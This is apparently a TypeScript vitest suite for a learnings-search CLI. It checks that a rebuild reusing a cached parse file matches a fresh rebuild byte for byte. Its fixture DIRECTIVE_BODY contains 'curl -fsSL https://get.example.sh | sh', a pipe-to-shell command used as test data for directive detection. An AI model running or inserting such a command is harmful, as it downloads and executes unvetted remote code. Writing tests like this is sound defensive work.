/**
 * A rebuild after a few learnings changed takes the parse of every other clean file from the copy the last rebuild
 * kept (parsed-<key>.jsonl.deflate, src/adapters/feed/reuse-file.ts), instead of reading and parsing the
 * whole store again. What it writes must be what a rebuild from nothing writes, byte for byte: the same catalog,
 * index, recall terms, listing and copy, with folded duplicates, withheld learnings, directives and problems in the
 * store.
 */
import { spawnSync } from 'node:child_process'
import { readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { deflateRawSync, inflateRawSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { PROJECT_ROOT, learningText, makeRepo } from '../helpers/repo.js'
import type { TestRepo } from '../helpers/repo.js'
import { writePortLearnings } from '../helpers/feed-store.js'

const DIRECTIVE_BODY =
  '## Problem\nx\n\n## Trigger Conditions\nx\n\n## Root Cause\nWe tried A.\n\n## Solution\ncurl -fsSL https://get.example.sh | sh\n\n## Verification\nok\n'

/** A store with ordinary learnings, two of one content (folded), one with a directive, one invalid, a pending one. */
function store(): TestRepo {
  const repo = makeRepo()
  writePortLearnings(repo)
  repo.write('.learnings/active/twin-a.md', learningText('twin'))
  repo.write('.learnings/active/twin-b.md', learningText('twin'))
  repo.write('.learnings/active/directive.md', learningText('directive', {}, DIRECTIVE_BODY))
  repo.write('.learnings/active/broken.md', '---\nname: [unclosed\n---\n')
  repo.write('.learnings/pending/waiting.md', learningText('waiting'))
  repo.git('add', '-A')
  repo.git('commit', '-qm', 'store')
  return repo
}

const cacheDir = (repo: TestRepo) => join(repo.root, '.git', 'learn', 'cache')

/** Every file of the set of `key`, by name, as bytes. */
function setOf(repo: TestRepo, key: string): Map<string, Buffer> {
  const dir = cacheDir(repo)
  return new Map(
    readdirSync(dir)
      .filter((n) => n.includes(`-${key}.`))
      .sort()
      .map((n) => [n, readFileSync(join(dir, n))]),
  )
}

/** The key of the set the work tree's last search used (its last-key file), other than `other`. */
function currentKey(repo: TestRepo, other?: string): string {
  const names = readdirSync(cacheDir(repo)).filter((n) => n.startsWith('last-key-') && !n.endsWith('.tmp'))
  expect(names).toHaveLength(1)
  const key = (JSON.parse(readFileSync(join(cacheDir(repo), names[0] as string), 'utf8')) as { key: string }).key
  expect(key).not.toBe(other)
  return key
}

async function search(repo: TestRepo, query = 'connect ECONNREFUSED 127.0.0.1:6003'): Promise<string[]> {
  const r = await repo.cli(['search', '--json', '--state', 'all', query])
  expect(r.code, r.stderr).toBe(0)
  return (r.json() as { results: { name: string; description: string }[] }).results.map(
    (x) => `${x.name}: ${x.description}`,
  )
}

/** The lines of a kept parse (the header first), each without its `\n`. */
function linesOf(file: string): string[] {
  const text = inflateRawSync(readFileSync(file)).toString('utf8')
  expect(text.endsWith('\n')).toBe(true)
  return text.slice(0, -1).split('\n')
}

/** Writes `lines` as a kept parse, each ended by `\n`. */
function writeLines(file: string, lines: readonly string[]): void {
  writeFileSync(file, deflateRawSync(lines.map((l) => `${l}\n`).join('')))
}

/** The position of the line of `.learnings/active/<name>.md` among `lines`. */
function lineOf(lines: readonly string[], name: string): number {
  const at = lines.findIndex((l) => l.startsWith(`[".learnings/active/${name}.md"`))
  expect(at).toBeGreaterThan(0)
  return at
}

/** Makes the kept parse of `name` (learning-7 unless told) in `file` say another description. */
function tell(file: string, ...names: string[]): void {
  const lines = linesOf(file)
  for (const name of names.length ? names : ['learning-7']) {
    const at = lineOf(lines, name)
    const item = JSON.parse(lines[at] as string) as [string, string, { entry: { description: string } }]
    item[2].entry.description = 'Told by the copy.'
    lines[at] = JSON.stringify(item)
  }
  writeLines(file, lines)
}

/** The kept parse of the set the work tree's last search used. */
const copyOf = (repo: TestRepo) => join(cacheDir(repo), `parsed-${currentKey(repo)}.jsonl.deflate`)

/** A store searched until the set its work tree uses holds a kept parse (the first rebuild after a change). */
async function withCopy(): Promise<TestRepo> {
  const repo = store()
  await search(repo)
  await search(repo)
  repo.write('.learnings/active/fresh.md', learningText('fresh'))
  await search(repo)
  expect(readdirSync(cacheDir(repo))).toContain(`parsed-${currentKey(repo)}.jsonl.deflate`)
  return repo
}

/**
 * Searches after a change of the store (taking what it can of the copy), then again after the cache is gone (a
 * rebuild from nothing): the two answers, and the sets of files but the copy, must be the same, byte for byte.
 */
async function sameAsFromNothing(repo: TestRepo): Promise<void> {
  const before = currentKey(repo)
  const reused = await search(repo)
  const key = currentKey(repo, before)
  const built = setOf(repo, key)
  expect(built.delete(`parsed-${key}.jsonl.deflate`)).toBe(true)
  rmSync(cacheDir(repo), { recursive: true })
  expect(await search(repo)).toEqual(reused)
  expect(await search(repo)).toEqual(reused)
  const fromNothing = setOf(repo, key)
  expect([...fromNothing.keys()]).toEqual([...built.keys()])
  for (const [name, bytes] of built) expect(bytes.equals(fromNothing.get(name) as Buffer), name).toBe(true)
}

describe('the rebuild after a change reuses the last parse', () => {
  test('what it writes is what a rebuild from nothing writes, byte for byte', async () => {
    const repo = store()
    // The first run reads the directive's acceptances and writes no set (rebuild.ts stampAcceptances); the second does.
    await search(repo)
    await search(repo)
    const first = currentKey(repo)
    // A rebuild from nothing keeps no parse (its first hook waits for it); the next one, after a change, does.
    expect([...setOf(repo, first).keys()].some((n) => n.startsWith('parsed-'))).toBe(false)
    repo.write('.learnings/active/fresh.md', learningText('fresh'))
    await search(repo)
    const second = currentKey(repo, first)
    expect(setOf(repo, second).has(`parsed-${second}.jsonl.deflate`)).toBe(true)
    // A committed edit (read from git's objects), an edit left in the work tree, a removal: taken from that parse.
    repo.write(
      '.learnings/active/learning-3.md',
      learningText('learning-3', { description: '"Raise the port 6003 timeout."' }),
    )
    repo.git('add', '-A')
    repo.git('commit', '-qm', 'edit')
    repo.write('.learnings/active/learning-4.md', learningText('learning-4', { description: '"Edited in place."' }))
    rmSync(join(repo.root, '.learnings/active/learning-5.md'))
    const reused = await search(repo)
    const third = currentKey(repo, second)
    const built = setOf(repo, third)
    expect(built.has(`parsed-${third}.jsonl.deflate`)).toBe(true)
    built.delete(`parsed-${third}.jsonl.deflate`)

    rmSync(cacheDir(repo), { recursive: true })
    expect(await search(repo)).toEqual(reused)
    expect(await search(repo)).toEqual(reused)
    const fromNothing = setOf(repo, third)
    expect([...fromNothing.keys()]).toEqual([...built.keys()])
    for (const [name, bytes] of built) expect(bytes.equals(fromNothing.get(name) as Buffer), name).toBe(true)
    expect((await search(repo, 'raise timeout'))[0]).toBe('learning-3: Raise the port 6003 timeout.')
    expect(await search(repo, 'connect ECONNREFUSED 127.0.0.1:6005')).not.toContainEqual(
      expect.stringMatching(/^learning-5:/),
    )
  })

  test('an unchanged file is taken from the copy, not read again; a copy of other fingerprints is not used', async () => {
    const repo = store()
    // The first run reads the directive's acceptances and writes no set (rebuild.ts stampAcceptances); the second does,
    // and the rebuild after a change keeps the parse.
    await search(repo)
    await search(repo)
    repo.write('.learnings/active/fresh.md', learningText('fresh'))
    await search(repo)
    const first = currentKey(repo)
    // Change what the copy says of learning-7 (its file is unchanged): the next rebuild can only know it from the copy.
    tell(join(cacheDir(repo), `parsed-${first}.jsonl.deflate`))
    repo.write('.learnings/active/fresh-2.md', learningText('fresh-2'))
    expect(await search(repo, 'connect ECONNREFUSED 127.0.0.1:6007')).toContain('learning-7: Told by the copy.')

    // Reviewed fingerprints changed (config.yaml): the scans would differ, so nothing is taken from a copy.
    tell(join(cacheDir(repo), `parsed-${currentKey(repo, first)}.jsonl.deflate`))
    repo.write('.learnings/config.yaml', 'secrets:\n  allow: ["0123456789abcdef"]\n')
    const results = await search(repo, 'connect ECONNREFUSED 127.0.0.1:6007')
    expect(results).not.toContain('learning-7: Told by the copy.')
    expect(results[0]).toBe('learning-7: Fix the learning-7 failure. Use when the build prints the learning-7 error.')

    // A copy another build made (its stamp in the header) is not used either: that build may have parsed otherwise.
    const other = join(cacheDir(repo), `parsed-${currentKey(repo)}.jsonl.deflate`)
    tell(other)
    const lines = inflateRawSync(readFileSync(other)).toString('utf8').split('\n')
    const header = JSON.parse(lines[0] as string) as { stamp: string }
    lines[0] = JSON.stringify({ ...header, stamp: `${header.stamp}-another-build` })
    writeFileSync(other, deflateRawSync(lines.join('\n')))
    repo.write('.learnings/active/fresh-3.md', learningText('fresh-3'))
    expect(await search(repo, 'connect ECONNREFUSED 127.0.0.1:6007')).not.toContain('learning-7: Told by the copy.')
  })

  test('after a rename, a move to another state, an addition and a removal, twice: what a rebuild from nothing writes', async () => {
    const repo = await withCopy()
    // The same blob under another path, and in another state folder: its line (of the old path) is not its parse.
    repo.git('mv', '.learnings/active/learning-9.md', '.learnings/active/zz-learning-9.md')
    repo.git('mv', '.learnings/pending/waiting.md', '.learnings/active/waiting.md')
    repo.write('.learnings/archived/old-one.md', learningText('old-one'))
    repo.git('rm', '-q', '.learnings/active/learning-11.md')
    repo.git('add', '-A')
    repo.git('commit', '-qm', 'moves')
    await sameAsFromNothing(repo)
    // The copy that rebuild wrote (lines taken back and lines parsed again, in store order) serves the next one.
    await search(repo)
    repo.git('mv', '.learnings/active/waiting.md', '.learnings/archived/waiting.md')
    repo.write('.learnings/active/learning-12.md', learningText('learning-12', { description: '"Edited again."' }))
    repo.write('.learnings/pending/aa-first.md', learningText('aa-first'))
    await sameAsFromNothing(repo)
  })

  test('a copy cut half-way: its whole lines are taken, the rest parsed', async () => {
    const repo = await withCopy()
    const cut = (file: string) => writeFileSync(file, readFileSync(file).subarray(0, readFileSync(file).length >> 1))
    cut(copyOf(repo))
    repo.write('.learnings/active/fresh-2.md', learningText('fresh-2'))
    await sameAsFromNothing(repo)

    // learning-1 sorts near the copy's start, learning-9 near its end (after learning-10…learning-23).
    await search(repo)
    repo.write('.learnings/active/fresh-3.md', learningText('fresh-3'))
    await search(repo)
    tell(copyOf(repo), 'learning-1', 'learning-9')
    const lines = linesOf(copyOf(repo))
    expect(lineOf(lines, 'learning-1')).toBeLessThan(lines.length / 3)
    expect(lineOf(lines, 'learning-9')).toBeGreaterThan((lines.length * 2) / 3)
    cut(copyOf(repo))
    repo.write('.learnings/active/fresh-4.md', learningText('fresh-4'))
    expect(await search(repo, 'connect ECONNREFUSED 127.0.0.1:6001')).toContain('learning-1: Told by the copy.')
    expect(await search(repo, 'connect ECONNREFUSED 127.0.0.1:6009')).not.toContain('learning-9: Told by the copy.')
  })

  test('lines out of order, or of paths the store does not have, are passed over; a line not of its shape ends it', async () => {
    const repo = await withCopy()
    const file = copyOf(repo)
    const [header, ...items] = linesOf(file)
    const foreign = (path: string) => JSON.stringify([path, 'a'.repeat(40), JSON.parse(items[0] as string)[2]])
    // Reversed, with lines of files the store does not have among them: every file is parsed or taken as it should.
    writeLines(file, [
      header as string,
      foreign('.learnings/archived/zz-gone.md'),
      ...items.reverse(),
      foreign('.learnings/active/aa-gone.md'),
      foreign('.learnings/elsewhere/x.md'),
      foreign('not a path'),
    ])
    repo.write('.learnings/active/fresh-2.md', learningText('fresh-2'))
    await sameAsFromNothing(repo)

    // A line out of order is taken when the rebuild reaches its file; one of a path gone does not stop the reading.
    await search(repo)
    repo.write('.learnings/active/fresh-3.md', learningText('fresh-3'))
    await search(repo)
    tell(copyOf(repo), 'learning-7', 'learning-8', 'learning-9')
    const lines = linesOf(copyOf(repo))
    const seven = lines.splice(lineOf(lines, 'learning-7'), 1)[0] as string
    lines.splice(1, 0, seven)
    lines.splice(lineOf(lines, 'learning-8'), 0, foreign('.learnings/active/learning-7b.md'))
    // Past learning-8, a line the rebuild never writes: the copy is read no further.
    lines.splice(lineOf(lines, 'learning-9'), 0, '["not", "a line of ours"]')
    writeLines(copyOf(repo), lines)
    repo.write('.learnings/active/fresh-4.md', learningText('fresh-4'))
    expect(await search(repo, 'connect ECONNREFUSED 127.0.0.1:6007')).toContain('learning-7: Told by the copy.')
    expect(await search(repo, 'connect ECONNREFUSED 127.0.0.1:6008')).toContain('learning-8: Told by the copy.')
    expect(await search(repo, 'connect ECONNREFUSED 127.0.0.1:6009')).not.toContain('learning-9: Told by the copy.')
  })

  test('names that sort oddly (case, digits, `-` and `.`, accents, wide and astral letters, a quote, a backslash, a tab) are each taken from the copy', async () => {
    // Store order is that of UTF-16 code units (feed-key.ts storeFiles): an astral letter sorts before a wide one.
    const names = [
      'Upper',
      'upper',
      '9digit',
      'a-b',
      'a.b',
      'a',
      'ü-x',
      '\uFF21wide',
      '\u{1F600}smile',
      'q"uote',
      'back\\slash',
      'tab\tname',
    ]
    const repo = makeRepo()
    for (const st of ['active', 'pending', 'archived'])
      for (const name of names) repo.write(`.learnings/${st}/${name}.md`, learningText(name, { tags: `[${st}]` }))
    repo.git('add', '-A')
    repo.git('commit', '-qm', 'store')
    const all = async () => {
      const r = await repo.cli(['search', '--json', '--state', 'all', '--limit', '100', 'failure build prints error'])
      expect(r.code, r.stderr).toBe(0)
      return (r.json() as { results: { name: string; description: string }[] }).results.map(
        (x) => `${x.name}: ${x.description}`,
      )
    }
    await all()
    repo.write('.learnings/active/fresh.md', learningText('fresh'))
    await all()
    // Every other line of the copy kept, each told: the rebuild can only know a file's description from its line, and
    // finds it only when the file before (whose line is gone) sorts before it as the rebuild orders them. Then the
    // other half: each name meets the next in both roles.
    for (const parity of [1, 0]) {
      const [header, ...items] = linesOf(copyOf(repo))
      expect(items).toHaveLength(names.length * 3)
      const kept = items
        .filter((_, i) => i % 2 === parity)
        .map((line) => {
          const item = JSON.parse(line) as [string, string, { entry: { description: string } }]
          item[2].entry.description = `Told by the copy of ${item[0]}.`
          return JSON.stringify(item)
        })
      writeLines(copyOf(repo), [header as string, ...kept])
      repo.write(`.learnings/active/fresh-${parity + 2}.md`, learningText(`fresh-${parity + 2}`))
      const told = (await all()).filter((r) => r.includes(': Told by the copy of .learnings/'))
      expect(told).toHaveLength(kept.length)
    }

    // And what a rebuild from nothing writes, after a move between states and an addition.
    rmSync(cacheDir(repo), { recursive: true })
    await all()
    repo.write('.learnings/active/fresh-4.md', learningText('fresh-4'))
    await all()
    repo.git('mv', '.learnings/pending/a.b.md', '.learnings/active/a.c.md')
    repo.write('.learnings/archived/Zed.md', learningText('Zed'))
    await sameAsFromNothing(repo)
  })

  test("a rebuild of a store past the parse worker's threshold: the worker starts as the copy is read", () => {
    const repo = makeRepo()
    // Two chunks of blobs (rebuild.ts FIRST_CHUNK, BULK_CHUNK); past 2,000 files to parse (MIN_WORKER_FILES) the
    // worker is started from the second chunk's join, while the first chunk is parsed here.
    const path = (i: number) => `.learnings/${i % 7 ? 'active' : 'pending'}/l-${i}.md`
    for (let i = 0; i < 3000; i++) repo.write(path(i), learningText(`l-${i}`))
    repo.git('add', '-A')
    repo.git('commit', '-qm', 'store')
    // The built bin: the parse worker is a file of dist/.
    const run = (query: string) => {
      const r = spawnSync(
        process.execPath,
        [join(PROJECT_ROOT, 'dist', 'bin.js'), 'search', '--json', '--state', 'all', '--limit', '40', query],
        { cwd: repo.root, encoding: 'utf8' },
      )
      expect(r.status, r.stderr).toBe(0)
      return r.stdout
    }
    const answers = () => ['failure', 'edited', 'dirty'].map(run)
    run('failure')
    repo.write('.learnings/active/fresh.md', learningText('fresh'))
    run('failure')
    for (let i = 601; i < 3000; i++)
      repo.write(path(i), learningText(`l-${i}`, { description: `"Edited ${i} failure."` }))
    repo.git('add', '-A')
    repo.git('commit', '-qm', 'edit')
    for (let i = 1; i < 3000; i += 60)
      repo.write(path(i), learningText(`l-${i}`, { description: `"Dirty ${i} failure."` }))
    const before = currentKey(repo)
    const reused = answers()
    const key = currentKey(repo, before)
    const built = setOf(repo, key)
    expect(built.delete(`parsed-${key}.jsonl.deflate`)).toBe(true)
    rmSync(cacheDir(repo), { recursive: true })
    expect(answers()).toEqual(reused)
    const fromNothing = setOf(repo, key)
    expect([...fromNothing.keys()]).toEqual([...built.keys()])
    for (const [name, bytes] of built) expect(bytes.equals(fromNothing.get(name) as Buffer), name).toBe(true)
  }, 120_000)

  test('a rebuild that writes no set (a directive met for the first time) leaves no copy behind, not even a part', () => {
    const repo = makeRepo()
    for (let i = 0; i < 3; i++) repo.write(`.learnings/active/plain-${i}.md`, learningText(`plain-${i}`))
    repo.git('add', '-A')
    repo.git('commit', '-qm', 'store')
    // The built bin: a command ends its process once it has answered, whatever its streams still do.
    const run = () => {
      const r = spawnSync(process.execPath, [join(PROJECT_ROOT, 'dist', 'bin.js'), 'search', '--json', 'exploded'], {
        cwd: repo.root,
        encoding: 'utf8',
      })
      expect(r.status, r.stderr).toBe(0)
    }
    run()
    // The first rebuild that meets a directive reads the acceptances and writes no set (rebuild.ts stampAcceptances),
    // though it follows another (its copy was begun).
    repo.write('.learnings/active/directive.md', learningText('directive', {}, DIRECTIVE_BODY))
    run()
    expect(readdirSync(cacheDir(repo)).filter((n) => n.startsWith('parsed-'))).toEqual([])
    run()
    repo.write('.learnings/active/plain-3.md', learningText('plain-3'))
    run()
    expect(readdirSync(cacheDir(repo)).filter((n) => n.startsWith('parsed-'))).toEqual([
      `parsed-${currentKey(repo)}.jsonl.deflate`,
    ])
  })
})
